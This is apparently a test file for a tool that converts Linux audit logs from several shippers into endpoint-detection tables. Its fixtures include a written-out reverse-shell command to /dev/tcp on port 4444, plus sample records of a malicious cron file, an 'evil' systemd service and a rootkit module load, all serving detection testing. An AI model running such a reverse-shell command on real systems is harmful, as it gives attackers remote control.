import { describe, expect, it } from 'vitest';
import { converted, onlyRow } from '../convert.js';

const id = '1767607872.400:101';
const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();
const record = (type: string, fields: string, of = id) =>
  `type=${type} msg=audit(${of}): ${fields}`;
const call = (number: number, more = '') =>
  record(
    'SYSCALL',
    `arch=c000003e syscall=${number} success=yes exit=0 a0=3 a1=241 a2=241 a3=1b6 items=2 ppid=100 pid=200 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="lab"${more}`,
  );
const names = '\u001dARCH=x86_64 SYSCALL=execve AUID="bob" UID="root"';
const command = 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1';

const start = [
  call(59, names),
  record('EXECVE', `argc=3 a0="bash" a1="-c" a2=${hex(command)}`),
  record('CWD', 'cwd="/root"'),
  record('PATH', 'item=0 name="/usr/bin/bash" inode=1 nametype=NORMAL'),
  record('PROCTITLE', `proctitle=${hex('bash\0-c\0cut off')}`),
  record('EOE', ''),
];
const started = {
  table: 'DeviceProcessEvents',
  ActionType: 'ProcessCreated',
  Timestamp: '2026-01-05T10:11:12.4000000Z',
  FolderPath: '/usr/bin/bash',
  FileName: 'bash',
  ProcessId: 200,
  ProcessCommandLine: `bash -c ${command}`,
  AccountName: 'root',
  LogonId: 3,
  InitiatingProcessId: 100,
};
const withHost = { ...started, DeviceName: 'web01' };

describe('a program start of the audit system, in every shape', () => {
  it.each<[string, readonly (object | string)[], object]>([
    ['audit.log', start, started],
    ['a node in front', start.map((text) => `node=web01 ${text}`), withHost],
    ['syslog', start.map((text) => `<13>Jan  5 10:11:12 web01 audispd[7]: ${text}`), withHost],
    [
      'Filebeat, of the file',
      start.map((message) => ({ '@timestamp': 'x', message, host: { hostname: 'web01' } })),
      withHost,
    ],
    [
      'an export of Splunk',
      start.map((text) => ({ preview: false, result: { _raw: text, host: 'web01' } })),
      withHost,
    ],
    [
      'the kernel’s own log',
      start
        .slice(0, 4)
        .map((text, index) =>
          text.replace(/type=\w+ msg=/, `type=${[1300, 1309, 1307, 1302][index]} `),
        )
        .map((text) => `Jan  5 10:11:12 web01 kernel: [  12.345678] audit: ${text}`),
      withHost,
    ],
    [
      'the journal',
      start.slice(0, 4).map((text, index) => ({
        _HOSTNAME: 'web01',
        _TRANSPORT: 'audit',
        _AUDIT_TYPE: String([1300, 1309, 1307, 1302][index]),
        _AUDIT_ID: '101',
        _SOURCE_REALTIME_TIMESTAMP: '1767607872400000',
        MESSAGE: text.replace(/^type=(\w+) msg=\S+/, '$1'),
      })),
      withHost,
    ],
    [
      'the journal, which has lines that are not all printable as bytes',
      start.slice(0, 4).map((text) => ({
        _HOSTNAME: 'web01',
        SYSLOG_IDENTIFIER: 'audisp-syslog',
        MESSAGE: [...Buffer.from(text)],
      })),
      withHost,
    ],
    [
      'ausearch --interpret',
      [
        '----',
        'type=PROCTITLE msg=audit(01/05/2026 10:11:12.400:101) : proctitle=bash -c cut off',
        'type=CWD msg=audit(01/05/2026 10:11:12.400:101) : cwd=/root',
        `type=EXECVE msg=audit(01/05/2026 10:11:12.400:101) : argc=3 a0=bash a1=-c a2=${command}`,
        'type=SYSCALL msg=audit(01/05/2026 10:11:12.400:101) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55 ppid=100 pid=200 auid=bob uid=root tty=pts0 ses=3 comm=bash exe=/usr/bin/bash key=(null)',
      ],
      started,
    ],
    [
      'LAUREL',
      [
        {
          ID: id,
          NODE: 'web01',
          SYSCALL: {
            ...{ arch: '0xc000003e', syscall: 59, success: 'yes', exit: 0, ppid: 100, pid: 200 },
            ...{ auid: 1000, uid: 0, ses: 3, comm: 'bash', exe: '/usr/bin/bash', UID: 'root' },
          },
          EXECVE: { argc: 3, ARGV: ['bash', '-c', command] },
          CWD: { cwd: '/root' },
          PATH: [{ item: 0, name: '/usr/bin/bash', nametype: 'NORMAL' }],
          PARENT_INFO: { ARGV: ['sshd'], exe: '/usr/sbin/sshd', ppid: 1 },
        },
      ],
      withHost,
    ],
    [
      'go-audit',
      [
        {
          sequence: 101,
          timestamp: '1767607872.400',
          messages: [
            { type: 1300, data: call(59).replace(/^.*?: /, '') },
            { type: 1309, data: start[1]?.replace(/^.*?: /, '') },
            { type: 1307, data: 'cwd="/root"' },
          ],
          uid_map: { '0': 'root', '1000': 'bob' },
        },
      ],
      started,
    ],
  ])('%s', (_name, records, wanted) => {
    const result = converted(records);
    expect([result.source, result.letters]).toEqual(['auditd', []]);
    expect(onlyRow(result)).toMatchObject(wanted);
  });

  it('has the command line of its parent, where LAUREL knows that', () => {
    const event = {
      ...laurel,
      PARENT_INFO: { ARGV: ['sshd:', 'bob'], exe: '/usr/sbin/sshd', ppid: 1 },
    };
    expect(onlyRow(converted([event]))).toMatchObject({
      InitiatingProcessCommandLine: 'sshd: bob',
      InitiatingProcessFileName: 'sshd',
    });
  });

  const laurel = {
    ID: id,
    SYSCALL: {
      syscall: 59,
      success: 'yes',
      ppid: 100,
      pid: 200,
      uid: 0,
      ses: 3,
      exe: '/usr/bin/bash',
    },
    EXECVE: { argc: 3, ARGV: ['bash', '-c', command] },
  };
  const goAudit = {
    sequence: 101,
    timestamp: '1767607872.400',
    messages: start.slice(0, 2).map((text, index) => ({
      type: [1300, 1309][index],
      data: text.replace(names, '').replace(/.*?\): /, ''),
    })),
    uid_map: { '0': 'root' },
  };

  it.each([
    ['LAUREL', laurel],
    ['go-audit', goAudit],
  ])('%s, in syslog and in what shippers make of it', (_name, event) => {
    const text = JSON.stringify(event);
    for (const each of [
      `<134>Jan  5 10:11:12 web01 audit[512]: ${text}`,
      `<134>1 2026-01-05T10:11:12Z web01 audit 512 - - ${text}`,
      { log: text, host: 'web01' },
      { message: text, host: { name: 'web01' } },
    ]) {
      const result = converted([each]);
      expect([result.source, result.letters]).toEqual(['auditd', []]);
      expect(onlyRow(result)).toMatchObject(withHost);
    }
  });

  it('has its long arguments whole, which come in parts and in several records', () => {
    const records = [
      call(59),
      record('EXECVE', 'argc=3 a0="bash" a1="-c" a2_len=15000 a2[0]="echo aaa"'),
      record('EXECVE', `a2[1]="bbb" a2[2]=${hex(' > "/tmp/x"')}`),
    ];
    expect(onlyRow(converted(records))).toMatchObject({
      ProcessCommandLine: 'bash -c echo aaabbb > "/tmp/x"',
    });
  });

  it('keeps what has no column, numbers as they are', () => {
    const { AdditionalFields } = onlyRow(converted(start));
    expect(AdditionalFields).toMatchObject({
      ProcessCurrentWorkingDirectory: '/root',
      auid: '1000',
      euid: '0',
      tty: 'pts0',
      key: 'lab',
      comm: 'bash',
      syscall: '59',
      gid: '0',
    });
  });
});

describe('other records of the audit system', () => {
  const cases: readonly (readonly [string, readonly string[], object])[] = [
    [
      'a process traced',
      [
        record(
          'SYSCALL',
          'arch=c000003e syscall=101 success=yes exit=0 a0=10 a1=4d2 a2=0 a3=0 items=0 ppid=100 pid=200 auid=1000 uid=0 comm="gdb" exe="/usr/bin/gdb"',
        ),
        record('OBJ_PID', 'opid=1234 oauid=-1 ouid=0 oses=-1 ocomm="sshd"'),
      ],
      {
        table: 'DeviceEvents',
        ActionType: 'PTraceDetected',
        ProcessId: 1234,
        FileName: 'sshd',
        InitiatingProcessFileName: 'gdb',
      },
    ],
    [
      'a connection',
      [call(42), record('SOCKADDR', 'saddr=0200115CCB0071090000000000000000')],
      {
        table: 'DeviceNetworkEvents',
        ActionType: 'ConnectionSuccess',
        RemoteIP: '203.0.113.9',
        RemotePort: 4444,
        RemoteIPType: 'Public',
        InitiatingProcessId: 200,
        InitiatingProcessFileName: 'bash',
        AdditionalFields: expect.objectContaining({ auid: '1000', syscall: '42' }),
      },
    ],
    [
      'a connection of a process whose start is not in the log',
      [
        call(42),
        record('SOCKADDR', 'saddr=0200115CCB0071090000000000000000'),
        record('PROCTITLE', `proctitle=${hex('bash\0-i')}`),
      ],
      { ActionType: 'ConnectionSuccess', InitiatingProcessCommandLine: 'bash -i' },
    ],
    [
      'a connection under way',
      [
        call(42).replace('success=yes exit=0', 'success=no exit=-115'),
        record('SOCKADDR', 'saddr=0200115CCB0071090000000000000000'),
      ],
      { ActionType: 'ConnectionSuccess' },
    ],
    [
      'a connection refused',
      [
        call(42).replace('success=yes exit=0', 'success=no exit=-111'),
        record('SOCKADDR', 'saddr=0200115CCB0071090000000000000000'),
      ],
      { ActionType: 'ConnectionFailed' },
    ],
    [
      'a new file',
      [
        call(257),
        record('CWD', 'cwd="/etc"'),
        record('PATH', 'item=0 name="cron.d" nametype=PARENT'),
        record('PATH', 'item=1 name="cron.d/evil" nametype=CREATE'),
      ],
      {
        table: 'DeviceFileEvents',
        ActionType: 'FileCreated',
        FolderPath: '/etc/cron.d/evil',
        FileName: 'evil',
      },
    ],
    [
      'a failed login',
      [
        record(
          'USER_AUTH',
          `pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed'`,
        ),
      ],
      {
        table: 'DeviceLogonEvents',
        ActionType: 'LogonFailed',
        AccountName: 'root',
        RemoteIP: '203.0.113.9',
        InitiatingProcessFileName: 'sshd',
        AdditionalFields: expect.objectContaining({ auid: '4294967295' }),
      },
    ],
    [
      'a new account',
      [
        record(
          'ADD_USER',
          `pid=1 uid=0 auid=1000 ses=5 msg='op=add-user acct="evil" exe="/usr/sbin/useradd" hostname=? addr=? res=success'`,
        ),
      ],
      { table: 'DeviceEvents', ActionType: 'UserAccountCreated', AccountName: 'evil' },
    ],
  ];

  const interpreted = (type: string, fields: string) =>
    `type=${type} msg=audit(01/05/2026 10:11:12.123:800) : ${fields} `;
  const program = (type: string, words: string, more = '', before = '') =>
    record(
      type,
      `${before}pid=9 uid=0 auid=1000 ses=5 msg='${words} terminal=? res=success'${more}`,
    );
  const sockaddr = 'saddr=02001F90CB0071090000000000000000';
  const moreCases: readonly (readonly [string, readonly string[], object])[] = [
    [
      'a program that was replaced while it ran, its name in hex',
      [
        call(59).replace(
          'exe="/usr/bin/bash"',
          `exe=${hex('/usr/lib/systemd/systemd-logind;58f98c85 (deleted)')}`,
        ),
      ],
      { FolderPath: '/usr/lib/systemd/systemd-logind', FileName: 'systemd-logind' },
    ],
    [
      'a new file, as older kernels have it',
      [
        call(85),
        record('CWD', ' cwd="/"'),
        record('PATH', 'item=0 name="/run/" objtype=PARENT'),
        record('PATH', 'item=1 name="/run/23.ref" objtype=CREATE'),
      ],
      { ActionType: 'FileCreated', FolderPath: '/run/23.ref' },
    ],
    [
      'what the daemon has resolved, behind a separator that was dropped',
      [
        call(42),
        record(
          'SOCKADDR',
          'saddr=0A00DE9900000000000000000000000000002a02cf40000000000000SADDR={ saddr_fam=inet6 laddr=2a02:cf40:: lport=56985 }',
        ),
      ],
      { ActionType: 'ConnectionSuccess', RemoteIP: '2a02:cf40::', RemotePort: 56985 },
    ],
    [
      'what the daemon has resolved, behind a separator that syslog has escaped',
      [
        call(42, '#035ARCH=x86_64 SYSCALL=connect UID="bob"'),
        record('SOCKADDR', `${sockaddr}#035SADDR={ saddr_fam=inet laddr=203.0.113.9 lport=8080 }`),
      ],
      { RemoteIP: '203.0.113.9', RemotePort: 8080, InitiatingProcessAccountName: 'bob' },
    ],
    [
      'a connection that is accepted',
      [call(288), record('SOCKADDR', sockaddr)],
      {
        table: 'DeviceNetworkEvents',
        ActionType: 'InboundConnectionAccepted',
        RemoteIP: '203.0.113.9',
        RemotePort: 8080,
      },
    ],
    [
      'a port that is listened at',
      [call(49), record('SOCKADDR', 'saddr=02001F90000000000000000000000000')],
      { ActionType: 'ListeningConnectionCreated', LocalIP: '0.0.0.0', LocalPort: 8080 },
    ],
    [
      'a type that the daemon has no name for',
      [
        call(59).replace('type=SYSCALL', 'type=UNKNOWN[1300]'),
        'type=UNKNOWN[1334] msg=audit(1767607872.400:101): prog-id=7 op=LOAD',
      ],
      { ActionType: 'ProcessCreated', ProcessId: 200 },
    ],
    [
      'a login of an account by its id, from a host without a name',
      [
        program(
          'USER_LOGIN',
          'op=login id=0 exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9',
          '',
          'user ',
        ),
      ],
      {
        ActionType: 'LogonSuccess',
        AccountName: 'root',
        LogonId: 5,
        RemoteIP: '203.0.113.9',
        RemoteDeviceName: null,
      },
    ],
    [
      'a new group',
      [
        program(
          'ADD_GROUP',
          'op=add-group id=2001 exe="/usr/sbin/groupadd" hostname=?',
          'UID="root" ID="lab"',
        ),
      ],
      { ActionType: 'SecurityGroupCreated', AdditionalFields: { GroupName: 'lab' } },
    ],
    [
      'a member of a group',
      [
        program(
          'USER_MGMT',
          'op=add-user-to-group grp="wheel" acct="mallory" exe="/usr/sbin/usermod"',
        ),
      ],
      {
        ActionType: 'UserAccountAddedToLocalGroup',
        AccountName: 'mallory',
        AdditionalFields: { GroupName: 'wheel', op: 'add-user-to-group' },
      },
    ],
    [
      'a password',
      [program('USER_CHAUTHTOK', 'op=updating passwd id=1004 exe="/usr/sbin/usermod"', 'ID="bob"')],
      {
        ActionType: 'PasswordChangeAttempt',
        AccountName: 'bob',
        AdditionalFields: { op: 'updating passwd', id: '1004' },
      },
    ],
    [
      'a login, as ausearch interprets it',
      [
        '----',
        'time->Mon Jan  5 10:11:12 2026',
        interpreted(
          'USER_LOGIN',
          "pid=900 uid=root auid=deploy ses=3 msg='op=login id=deploy exe=/usr/sbin/sshd hostname=? addr=198.51.100.3 terminal=ssh res=success'",
        ),
      ],
      { ActionType: 'LogonSuccess', AccountName: 'deploy', RemoteIP: '198.51.100.3' },
    ],
    [
      'a login with a key',
      [
        program(
          'USER_AUTH',
          'op=pubkey_auth rport=50122 acct="deploy" exe="/usr/sbin/sshd" hostname=? addr=198.51.100.3',
        ),
      ],
      { ActionType: 'LogonSuccess', RemoteIP: '198.51.100.3', RemotePort: 50122 },
    ],
    [
      'a symbolic link',
      [
        call(88),
        record('CWD', 'cwd="/etc/systemd/system"'),
        record('PATH', 'item=0 name="multi-user.target.wants" nametype=PARENT'),
        record('PATH', 'item=1 name="/etc/systemd/system/evil.service" nametype=UNKNOWN'),
        record('PATH', 'item=2 name="multi-user.target.wants/evil.service" nametype=CREATE'),
      ],
      {
        table: 'DeviceFileEvents',
        ActionType: 'FileCreated',
        FolderPath: '/etc/systemd/system/multi-user.target.wants/evil.service',
      },
    ],
    [
      'another name of a file, which is not changed',
      [
        call(265),
        record('CWD', 'cwd="/tmp"'),
        record('PATH', 'item=0 name="/usr/bin/su" nametype=NORMAL'),
        record('PATH', 'item=1 name="/tmp" nametype=PARENT'),
        record('PATH', 'item=2 name="s" nametype=CREATE'),
      ],
      { ActionType: 'FileCreated', FolderPath: '/tmp/s' },
    ],
    [
      'a module of the kernel',
      [call(313), record('KERN_MODULE', 'name="diamorphine"')],
      {
        table: 'DeviceEvents',
        ActionType: 'DriverLoad',
        FileName: 'diamorphine',
        InitiatingProcessFileName: 'bash',
      },
    ],
    [
      'a new account, and its home',
      [
        program('ADD_USER', 'op=add-user acct="evil" exe="/usr/sbin/useradd"'),
        program('ADD_USER', 'op=add-home-dir id=1005 exe="/usr/sbin/useradd"').replace(
          ':101)',
          ':102)',
        ),
      ],
      { ActionType: 'UserAccountCreated', AccountName: 'evil' },
    ],
    [
      'a new group, file by file',
      ['adding group to /etc/group', 'adding group to /etc/gshadow', 'adding group'].map(
        (did, index) =>
          program('ADD_GROUP', `op=${did} acct="lab" exe="/usr/sbin/groupadd"`).replace(
            ':101)',
            `:${index})`,
          ),
      ),
      { ActionType: 'SecurityGroupCreated', AdditionalFields: { GroupName: 'lab' } },
    ],
    [
      'another home of an account',
      [program('USER_CHAUTHTOK', 'op=changing home directory acct="bob" exe="/usr/sbin/usermod"')],
      { ActionType: 'UserAccountModified', AccountName: 'bob' },
    ],
    [
      'a login that an account of that name would have told otherwise, interpreted',
      [
        interpreted(
          'USER_LOGIN',
          "pid=900 uid=root auid=unset ses=unset msg='op=login acct=x res=success addr=192.0.2.66 exe=/tmp/x pid=1 op=y exe=/usr/sbin/sshd hostname=? addr=198.51.100.3 terminal=ssh res=failed'",
        ),
      ],
      {
        ActionType: 'LogonFailed',
        AccountName: 'x',
        RemoteIP: '198.51.100.3',
        InitiatingProcessId: 900,
        InitiatingProcessFolderPath: '/usr/sbin/sshd',
        AdditionalFields: { op: 'login' },
      },
    ],
    [
      'an account that is locked',
      [program('ACCT_LOCK', 'op=locked-password id=7 exe="/usr/bin/passwd"', 'ID="bob"')],
      { ActionType: 'UserAccountModified', AccountName: 'bob' },
    ],
  ];

  it.each([...cases, ...moreCases])('%s', (_name, records, wanted) => {
    const row = onlyRow(converted(records));
    expect({ RemoteDeviceName: null, ...row }).toMatchObject(wanted);
  });

  it.each<[string, object, object]>([
    [
      'its arguments as one text, what is not plain in percents',
      {
        ID: id,
        NODE: 'web01',
        SYSCALL: {
          ...{ arch: '0xc000003e', syscall: 59, success: 'yes', exit: 0, ppid: 100, pid: 200 },
          ...{ uid: 1000, ses: 3, exe: '/usr/bin/date', key: null, ARGV: ['0x5', '0x6'] },
        },
        EXECVE: { argc: 3, ARGV_STR: 'date -u %2b%25s ä' },
      },
      { ProcessCommandLine: 'date -u +%s ä', AdditionalFields: { a0: '0x5' } },
    ],
    [
      'its title alone',
      {
        ID: id,
        SYSCALL: { arch: '0xc000003e', syscall: 59, success: 'yes', pid: 200, exe: '/bin/nc' },
        PROCTITLE: { ARGV: ['nc', '-l', 'a b'] },
      },
      { ProcessCommandLine: 'nc -l a b' },
    ],
    [
      'the parent of a program that was started',
      {
        ID: id,
        SYSCALL: {
          ...{ arch: '0xc000003e', syscall: 59, success: 'yes', ppid: 100, pid: 200 },
          ...{ exe: '/usr/bin/perl', UID: 'root' },
          PPID: { EVENT_ID: '1767607871.400:99', comm: 'bash', exe: '/bin/bash', ppid: 50 },
        },
        EXECVE: { argc: 2, ARGV_STR: 'perl -e' },
      },
      {
        ActionType: 'ProcessCreated',
        InitiatingProcessId: 100,
        InitiatingProcessFileName: 'bash',
        InitiatingProcessFolderPath: '/bin/bash',
        InitiatingProcessParentId: 50,
        AdditionalFields: expect.not.objectContaining({ PPID: expect.anything() }),
      },
    ],
    [
      'what it knows of the process besides',
      {
        ID: id,
        SYSCALL: {
          ...{ arch: '0xc000003e', syscall: 42, success: 'yes', pid: 200, exe: '/usr/bin/nc' },
          PID: { EVENT_ID: '1767607871.400:98', comm: 'n c' },
          comm: 'nc',
        },
        SOCKADDR: [{ SADDR: { saddr_fam: 'inet', addr: '203.0.113.9', port: 4444 } }],
      },
      { AdditionalFields: { PID: '{"EVENT_ID":"1767607871.400:98","comm":"n c"}', comm: 'nc' } },
    ],
    [
      'the parent of the process that acted, in the words of older versions',
      {
        ID: id,
        SYSCALL: {
          ...{ arch: '0xc000003e', syscall: 42, success: 'yes', ppid: 100, pid: 200 },
          exe: '/usr/bin/nc',
        },
        SOCKADDR: [{ SADDR: { saddr_fam: 'inet', addr: '203.0.113.9', port: 4444 } }],
        PARENT_INFO: { ID: '1767607871.400:99', comm: 'sh', exe: '/usr/bin/dash', ppid: 50 },
      },
      {
        ActionType: 'ConnectionSuccess',
        InitiatingProcessId: 200,
        InitiatingProcessFileName: 'nc',
        InitiatingProcessParentId: 100,
        InitiatingProcessParentFileName: 'dash',
      },
    ],
    [
      'an address in percents, and a call by its name on a machine whose numbers are others',
      {
        ID: id,
        SYSCALL: { arch: '0x80000015', syscall: 328, success: 'yes', pid: 1, SYSCALL: 'connect' },
        SOCKADDR: [{ saddr: '%02%00%11%5c%cb%00q%09%00%00%00%00%00%00%00%00' }],
      },
      { ActionType: 'ConnectionSuccess', RemoteIP: '203.0.113.9', RemotePort: 4444 },
    ],
    [
      'an address in words',
      {
        ID: id,
        SYSCALL: { syscall: 'connect', success: 'yes', pid: 1, exe: '/bin/nc' },
        SOCKADDR: [{ SADDR: { saddr_fam: 'inet', addr: '203.0.113.9', port: 4444 } }],
      },
      { RemoteIP: '203.0.113.9', RemotePort: 4444 },
    ],
  ])('LAUREL: %s', (_name, event, wanted) => {
    expect(onlyRow(converted([event]))).toMatchObject(wanted);
  });

  it('quotes within what a program says, in an alert of Wazuh', () => {
    const text = record(
      'USER_AUTH',
      `pid=5 uid=0 msg='op=PAM:authentication grantors=? acct="f('x')" exe="/usr/bin/python3.8" hostname=? addr=? res=failed'UID="root"`,
    );
    const alert = { agent: { id: '001', name: 'web01' }, rule: { level: 3 }, full_log: text };
    expect(onlyRow(converted([alert]))).toMatchObject({
      DeviceName: 'web01',
      ActionType: 'LogonFailed',
      AccountName: "f('x')",
      InitiatingProcessFileName: 'python3.8',
      InitiatingProcessAccountName: 'root',
    });
  });

  it('records that a shipper has joined into one message are read one by one', () => {
    const document = { '@timestamp': 'x', message: start.join('\n'), event: { kind: 'event' } };
    expect(onlyRow(converted([document]))).toMatchObject(started);
  });

  it.each([
    ['3', 'ConnectionSuccess'],
    ['2', 'ListeningConnectionCreated'],
    ['5', 'InboundConnectionAccepted'],
  ])('a program of 32 bits asks for its socket by a number: %s', (asked, ActionType) => {
    const input = [
      `type=SYSCALL msg=audit(1767607872.400:7): arch=40000003 syscall=102 success=yes exit=0 a0=${asked} pid=5 exe="/usr/bin/nc"`,
      'type=SOCKADDR msg=audit(1767607872.400:7): saddr=0200115CCB007109',
    ];
    expect(onlyRow(converted(input))).toMatchObject({ ActionType, InitiatingProcessId: 5 });
  });

  it.each([
    [`time->${' '.repeat(300_000)}\u2028x`, 1],
    ['time->what another program wrote', 1],
    ['time->Mon Jan  5 10:11:12 2026', 0],
    [interpreted('USER_LOGIN', "msg='".repeat(150_000)), 0],
  ])('what looks like lines of ausearch takes no time, and is kept: %#', (line, rejected) => {
    const started = performance.now();
    expect(converted([...start, line]).counts.rejected).toBe(rejected);
    expect(performance.now() - started).toBeLessThan(3_000);
  });

  it.each([
    ['arm', '40000028', 11, 283],
    ['ppc64', '80000015', 11, 328],
    ['ppc64le', 'c0000015', 11, 328],
    ['s390x', '80000016', 11, 362],
    ['aarch64', 'c00000b7', 221, 203],
    ['riscv64', 'c00000f3', 221, 203],
    ['loongarch64', 'c0000102', 221, 203],
  ])('calls are known by their numbers on %s', (_name, arch, execve, connect) => {
    const on = (number: number) => call(number).replace('c000003e', arch);
    const { rows } = converted(
      [
        on(execve),
        record('EXECVE', 'argc=1 a0="bash"'),
        on(connect).replace(':101)', ':102)'),
        record('SOCKADDR', 'saddr=0200115CCB007109', '1767607872.400:102'),
      ],
      'auditd',
    );
    expect(rows['DeviceProcessEvents']).toMatchObject([{ ProcessCommandLine: 'bash' }]);
    expect(rows['DeviceNetworkEvents']).toMatchObject([{ RemotePort: 4444 }]);
  });

  it('a command line of EXECVE is preferred to the title of a later call', () => {
    const later = (text: string) => text.replace(':101)', ':102)');
    const { rows } = converted([
      ...start,
      later(call(42)),
      later(record('SOCKADDR', 'saddr=0200115CCB007109')),
      later(record('PROCTITLE', `proctitle=${hex('bash\0-c\0cut off')}`)),
    ]);
    expect(rows['DeviceNetworkEvents']).toMatchObject([
      { InitiatingProcessCommandLine: started.ProcessCommandLine },
    ]);
  });

  it('an account that ausearch has no name of is not called by its number', () => {
    const login = interpreted('USER_LOGIN', "pid=9 msg='op=login id=unknown(1001) res=failed'");
    expect(onlyRow(converted([login]))).not.toHaveProperty('AccountName');
  });

  it('who is no user has no name', () => {
    const acct = hex('(invalid user)');
    const login = record(
      'USER_LOGIN',
      `pid=9 uid=0 msg='op=login acct=${acct} exe="/usr/sbin/sshd" addr=192.0.2.7 res=failed'`,
    );
    const row = onlyRow(converted([login]));
    expect([row['ActionType'], row['AccountName']]).toEqual(['LogonFailed', undefined]);
  });

  it('no device without a host, and no account that was not made', () => {
    const failed = program('ADD_USER', 'op=adding user acct="x" exe="/usr/sbin/useradd"');
    const shadow = program('ADD_GROUP', 'op=adding group to /etc/gshadow acct="x"');
    expect(converted([failed.replace('success', 'failed'), shadow]).rows).toEqual({});
    const { rows, snapshots } = converted(start);
    expect(rows['DeviceProcessEvents']?.[0]).not.toHaveProperty('DeviceId');
    expect(snapshots).toEqual({});
  });

  it('a process that lets itself be traced has no row', () => {
    const traced = record(
      'SYSCALL',
      'arch=c000003e syscall=101 success=yes exit=0 a0=0 a1=0 pid=200 exe="/usr/bin/strace"',
    );
    expect(converted([traced])).toMatchObject({ rows: {}, counts: { unmapped: 1 } });
  });

  it('opening a file to read it, and a search along PATH, are no rows', () => {
    const reading = [
      call(257).replace('a2=241', 'a2=0'),
      record('PATH', 'item=0 name="/etc/shadow" nametype=NORMAL'),
    ];
    const search = [call(59).replace('success=yes exit=0', 'success=no exit=-2')];
    for (const records of [reading, search]) expect(converted(records).rows).toEqual({});
  });

  it('zeros within a title take no time', () => {
    const title = record('PROCTITLE', `proctitle=${hex(`a${'\0'.repeat(50_000)}b`)}`);
    const start = performance.now();
    converted([call(59, names), title]);
    expect(performance.now() - start).toBeLessThan(1_000);
  });
});
